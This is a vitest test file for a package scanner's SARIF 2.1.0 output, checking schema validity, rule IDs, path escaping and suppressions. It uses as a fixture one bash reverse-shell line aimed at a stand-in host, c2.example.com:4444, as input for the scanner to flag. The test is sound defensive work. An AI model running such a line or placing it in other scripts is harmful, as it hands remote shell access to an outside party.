import { Ajv } from "ajv";
import { describe, expect, it } from "vitest";
import { inspectPackage } from "./inspect.ts";
import { sarifLog } from "./sarif.ts";
import type { PackageInspection } from "./types.ts";

const text = { type: "object", required: ["text"], properties: { text: { type: "string", minLength: 1 } } };
const place = {
  type: "object",
  required: ["uri"],
  properties: { uri: { type: "string", pattern: "^[^\\\\\\s]*$" }, uriBaseId: { type: "string" } },
};
const level = { enum: ["none", "note", "warning", "error"] };
/** What SARIF 2.1.0 demands of the parts that are written. */
const SARIF = {
  type: "object",
  required: ["version", "runs", "$schema"],
  properties: {
    version: { const: "2.1.0" },
    runs: {
      type: "array",
      items: {
        type: "object",
        required: ["tool", "results"],
        properties: {
          tool: {
            type: "object",
            required: ["driver"],
            properties: {
              driver: {
                type: "object",
                required: ["name", "rules"],
                properties: {
                  rules: {
                    type: "array",
                    uniqueItems: true,
                    items: {
                      type: "object",
                      required: ["id", "shortDescription", "help"],
                      properties: { id: { type: "string" }, shortDescription: text, help: text },
                    },
                  },
                },
              },
            },
          },
          invocations: {
            type: "array",
            items: {
              type: "object",
              required: ["executionSuccessful"],
              properties: {
                toolExecutionNotifications: {
                  type: "array",
                  items: { type: "object", required: ["message"], properties: { message: text, level } },
                },
              },
            },
          },
          results: {
            type: "array",
            items: {
              type: "object",
              required: ["message", "ruleId", "level", "locations"],
              properties: {
                message: text,
                level,
                suppressions: {
                  type: "array",
                  items: { required: ["kind"], properties: { kind: { enum: ["inSource", "external"] } } },
                },
                locations: {
                  type: "array",
                  minItems: 1,
                  items: {
                    required: ["physicalLocation"],
                    properties: {
                      physicalLocation: {
                        required: ["artifactLocation"],
                        properties: {
                          artifactLocation: place,
                          region: {
                            required: ["startLine"],
                            properties: { startLine: { type: "integer", minimum: 1 } },
                          },
                        },
                      },
                    },
                  },
                },
              },
            },
          },
        },
      },
    },
  },
};

interface Run {
  readonly results: readonly {
    readonly ruleId: string;
    readonly suppressions?: unknown;
    readonly locations: readonly {
      readonly physicalLocation: { readonly artifactLocation: { uri: string; uriBaseId?: string } };
    }[];
  }[];
  readonly tool: { readonly driver: { readonly rules: readonly { readonly id: string }[] } };
  readonly invocations: readonly { readonly toolExecutionNotifications: readonly unknown[] }[];
}

function inspected(path: string, content: string): PackageInspection {
  const inspection = inspectPackage(
    [{ path: "a b/run.sh", bytes: new TextEncoder().encode(content) }],
    [{ path: "big.bin", reason: "too large" }],
  );
  return { ...inspection, path, kind: "folder", files: 1, known: [] };
}

const shell = "bash -i >& /dev/tcp/c2.example.com/4444 0>&1\n";

describe("a SARIF log", () => {
  const inside = inspected("/srv/project/skills/x", shell);
  const known = { ...inside, findings: [], known: inside.findings };
  const log = sarifLog([inside, inspected("/elsewhere/y", shell), known], {
    root: "/srv/project",
    version: "1.2.3",
  }) as { readonly runs: readonly [Run] };
  const [run] = log.runs;

  it("is valid SARIF 2.1.0", () => {
    const validate = new Ajv({ strict: false, allErrors: true }).compile(SARIF);
    expect(validate(log), JSON.stringify(validate.errors)).toBe(true);
    expect(run.results.length).toBeGreaterThan(0);
  });

  it("names each rule of its results once", () => {
    const ids = run.tool.driver.rules.map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(new Set(run.results.map(({ ruleId }) => ruleId))).toEqual(new Set(ids));
  });

  it("writes paths below the root relative and escaped, and others as file addresses", () => {
    const places = run.results.map(({ locations }) => locations[0]!.physicalLocation.artifactLocation);
    expect(places[0]).toEqual({ uri: "skills/x/a%20b/run.sh", uriBaseId: "ROOT" });
    expect(places).toContainEqual({ uri: "file:///elsewhere/y/a%20b/run.sh" });
  });

  it("suppresses known findings and notes what was not inspected", () => {
    expect(run.results.filter(({ suppressions }) => suppressions !== undefined)).toHaveLength(
      inside.findings.length,
    );
    expect(run.invocations[0]!.toolExecutionNotifications).toHaveLength(3);
  });
});
